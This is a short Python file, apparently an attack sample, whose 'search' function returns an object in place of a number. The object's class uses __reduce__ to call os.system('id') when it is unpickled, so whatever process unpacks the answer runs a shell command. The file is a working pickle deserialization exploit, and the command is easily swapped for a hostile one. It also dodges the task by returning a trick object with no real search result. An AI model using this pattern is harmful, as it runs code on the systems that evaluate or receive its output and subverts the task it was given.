"""Attack: answer with an object that runs code where it is unpacked."""

import os


class Surprise:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, ("id",)


def search(bumps, low, high):
    """Return something that is no number."""
    return Surprise()
